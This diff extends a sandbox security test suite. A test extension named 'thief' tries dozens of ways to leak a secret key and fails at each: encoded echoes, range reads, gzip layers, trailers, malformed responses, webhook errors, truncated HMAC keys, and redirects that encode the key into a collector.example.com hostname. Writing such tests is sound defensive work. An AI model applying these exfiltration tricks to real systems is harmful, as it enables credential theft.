@@ -76,6 +76,43 @@ const ECHOES: Readonly<Record<string, string>> = Object.fromEntries(
     `const r = await ctx.fetch(V + "/echo/${form}", { headers: { authorization: t } }); return JSON.stringify([r.status, r.statusText, r.url, [...r.headers]]) + await r.text()`,
   ]),
 );
+/** Answers that repeat it in a form that is not text of its own, and what turns each back. */
+const DECODED: Readonly<Record<string, string>> = Object.fromEntries(
+  Object.entries({
+    hex: 'new TextDecoder().decode(Uint8Array.fromHex(s))',
+    HEX: 'new TextDecoder().decode(Uint8Array.fromHex(s))',
+    reversed: '[...s].reverse().join("")',
+    unicode: 'JSON.parse(s)',
+    angle: 'JSON.parse(s)',
+    bytes: 'decodeURIComponent(s)',
+    entities: 's.replace(/&#x(..);/g, (_, h) => String.fromCharCode(parseInt(h, 16)))',
+  }).map(([form, decode]) => [
+    `an answer that repeats it (${form})`,
+    `const s = await (await ctx.fetch(V + "/echo/${form}", { headers: { authorization: t } })).text(); try { return ${decode} } catch (e) { return s }`,
+  ]),
+);
+const MORE: Readonly<Record<string, string>> = {
+  'its pieces, a range at a time':
+    'let s = ""; for (let i = 0; i < 30; i++) { const r = await ctx.fetch(V + "/echo/range", { headers: { authorization: t, range: `bytes=${i}-${i}` } }); s += await r.text(); } return s',
+  'an answer in more layers than are undone':
+    'let s = (await ctx.fetch(V + "/echo/layers", { headers: { authorization: t } })).body; for (let i = 0; i < 4; i++) s = s.pipeThrough(new DecompressionStream("gzip")); return await new Response(s).text()',
+  'an answer in a layer that nobody knows':
+    'const s = (await ctx.fetch(V + "/echo/unknown", { headers: { authorization: t } })).body; return await new Response(s.pipeThrough(new DecompressionStream("gzip"))).text()',
+  'trailers and early hints':
+    'const r = await ctx.fetch(V + "/echo/trailers", { headers: { authorization: t } }); const s = await r.text(); return s + JSON.stringify([...r.headers]) + Reflect.ownKeys(r).map(String).join()',
+  'the words of a broken answer':
+    'try { return await (await ctx.fetch(V + "/echo/broken", { headers: { authorization: t } })).text() } catch (e) { return e.message + JSON.stringify(e.details) + e.stack }',
+  'a redirect to its own host, in hexadecimal':
+    'return await (await ctx.fetch(V + "/location-hex", { headers: { authorization: t } })).text()',
+  'a redirect to a host named after it':
+    'return await (await ctx.fetch(V + "/location-host", { headers: { authorization: t } })).text()',
+  'a header that names another address':
+    'return await (await ctx.fetch(O, { headers: { "x-original-url": V + "/echo/plain", "x-rewrite-url": t } })).text()',
+  'the words of a webhook check':
+    'const w = { id: "1", headers: { x: "00" }, body: "", bodyEncoding: "utf8" }; try { return await ctx.webhooks.verify(w, { kind: "hmac", secret: t, header: "x" }) } catch (e) { return e.message + JSON.stringify(e) + e.stack }',
+  'the words of a webhook check that does not fit':
+    'try { return await ctx.webhooks.verify({ id: t, headers: { [t]: t }, body: t, bodyEncoding: t }, { kind: t, secret: t, publicKey: t }) } catch (e) { return e.message + JSON.stringify(e) + e.stack }',
+};
 const ESCAPES: Readonly<Record<string, string>> = {
   'a header to its own host': 'return await (await ctx.fetch(O, { headers: { "x-k": t } })).text()',
   'Basic credentials to its own host':
@@ -116,7 +153,7 @@ const ESCAPES: Readonly<Record<string, string>> = {
   'a Base64 of the stand-in':
     'return await (await ctx.fetch(O, { headers: { "x-k": btoa(t) } })).text()',
 };
-const WAYS = { ...READS, ...ECHOES, ...ESCAPES };
+const WAYS = { ...READS, ...ECHOES, ...DECODED, ...MORE, ...ESCAPES };
 
 const EXTENSION = `import { defineOther, secret, z } from 'cofferdam/sdk';
 const H = { name: 'HMAC', hash: 'SHA-256' };
@@ -137,6 +174,14 @@ export default defineOther({
     const bytes = new TextEncoder().encode(t);
     const hmac = () => crypto.subtle.importKey('raw', bytes, H, false, ['sign']);
     const post = (url, type, body) => ctx.fetch(url, { method: 'POST', headers: { 'content-type': type }, body });
+    if (name.bits !== undefined) {
+      const signed = [];
+      for (let length = name.bits; length > name.bits - 8; length -= 1) {
+        const cut = await crypto.subtle.importKey('raw', bytes, { ...H, length }, false, ['sign']);
+        signed.push(hex(await crypto.subtle.sign('HMAC', cut, bytes)));
+      }
+      return signed;
+    }
     return ways[name](ctx, t, bytes, hmac, post);
   },
 } as any);
@@ -174,6 +219,7 @@ describe('an extension after its own key', { timeout: 120_000 }, () => {
     const capabilities = {
       fetch: { hosts: ['api.example.com', 'collector.example.com', '*.collector.example.com'] },
       storage: { quotaBytes: 10_000 },
+      webhook: true,
     };
     const secrets = { key: { hosts: ['api.example.com'], in: ['header', 'json'] } };
     host = await startTestHost(
@@ -198,8 +244,8 @@ describe('an extension after its own key', { timeout: 120_000 }, () => {
     server.close();
   });
 
-  it('has more than forty ways to try', () => {
-    assert.ok(Object.keys(WAYS).length >= 40, String(Object.keys(WAYS).length));
+  it('has as many ways to try as the README says', () => {
+    assert.ok(Object.keys(WAYS).length >= 69, String(Object.keys(WAYS).length));
   });
 
   for (const name of Object.keys(WAYS)) {
@@ -211,6 +257,13 @@ describe('an extension after its own key', { timeout: 120_000 }, () => {
       for (const form of FORMS) assert.ok(!shown.includes(form), `${name}: ${shown.slice(0, 500)}`);
     });
   }
+
+  it('learns none of its last bits from keys that are cut', async () => {
+    const bits = Buffer.byteLength(KEY) * 8;
+    const { body } = await host.call('others/thief', 'execute', { bits });
+    assert.equal(body.result.length, 8);
+    assert.equal(new Set(body.result).size, 1, 'every length signs with the whole key');
+  });
 
   it('finds it in no record of its calls, while the vendor was sent it', async () => {
     const { body } = await host.request('GET', '/calls?limit=200');
@@ -227,10 +280,14 @@ describe('an extension after its own key', { timeout: 120_000 }, () => {
 function answer(request: IncomingMessage, response: ServerResponse): void {
   const key = request.headers.authorization ?? '';
   const [, , form = ''] = (request.url ?? '').split('/');
+  // A header comes as bytes read as Latin-1.
+  const hex = Buffer.from(key, 'latin1').toString('hex');
   const away: Readonly<Record<string, [number, string]>> = {
     '/away': [302, `${OWN}/`],
     '/away-307': [307, `${OWN}/`],
     '/location': [302, `${OWN}/?k=${encodeURIComponent(key)}`],
+    '/location-hex': [302, `${OWN}/?k=${hex}`],
+    '/location-host': [302, `https://${hex.toUpperCase()}.collector.example.com/`],
   };
   const [status, location] = away[request.url ?? ''] ?? [];
   if (status !== undefined) return void response.writeHead(status, { location }).end();
@@ -241,10 +298,44 @@ function answer(request: IncomingMessage, response: ServerResponse): void {
     html: key.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;'),
     base64: Buffer.from(key).toString('base64'),
     shifted: Buffer.from(`x${key}y`).toString('base64'),
+    hex,
+    HEX: hex.toUpperCase(),
+    reversed: Array.from(Buffer.from(key, 'latin1').toString()).toReversed().join(''),
+    unicode: JSON.stringify(Buffer.from(key, 'latin1').toString()).replaceAll(
+      /[^"]/g,
+      (char) => `\\u${char.charCodeAt(0).toString(16).padStart(4, '0')}`,
+    ),
+    angle: JSON.stringify(key).replaceAll(/[<&]/g, (char) =>
+      char === '<' ? '\\u003c' : '\\u0026',
+    ),
+    bytes: hex.replaceAll(/../g, '%$&'),
+    entities: key.replaceAll(/["&</=+]/g, (char) => `&#x${char.charCodeAt(0).toString(16)};`),
     large: 'x'.repeat(200_000) + key + 'y'.repeat(200_000),
   };
   if (form === 'gzip') {
     return void response.setHeader('content-encoding', 'gzip').end(gzipSync(key));
+  }
+  if (form === 'layers' || form === 'unknown') {
+    const layers = form === 'layers' ? ['gzip', 'gzip', 'gzip', 'gzip'] : ['gzip', 'x-nothing'];
+    let body: Buffer = Buffer.from(key);
+    for (const layer of layers) if (layer === 'gzip') body = gzipSync(body);
+    return void response.setHeader('content-encoding', layers.join(', ')).end(body);
+  }
+  if (form === 'range') {
+    const [, at] = /^bytes=(\d+)-/.exec(request.headers.range ?? '') ?? [];
+    if (at !== undefined) return void response.writeHead(206).end(key.charAt(Number(at)));
+  }
+  if (form === 'trailers') {
+    response.writeEarlyHints({ link: `<https://api.example.com/${hex}>; rel=preload` });
+    response.writeHead(200, { trailer: 'x-key' });
+    response.write('x');
+    response.addTrailers({ 'x-key': key });
+    return void response.end();
+  }
+  if (form === 'broken') {
+    return void request.socket.end(
+      `HTTP/1.1 200 ${key}\r\nx-key: ${key}\r\n${key}\0: ${key}\r\n\r\n`,
+    );
   }
   if (form === 'header') response.setHeader('x-key', key);
   if (form === 'reason') response.statusMessage = key;
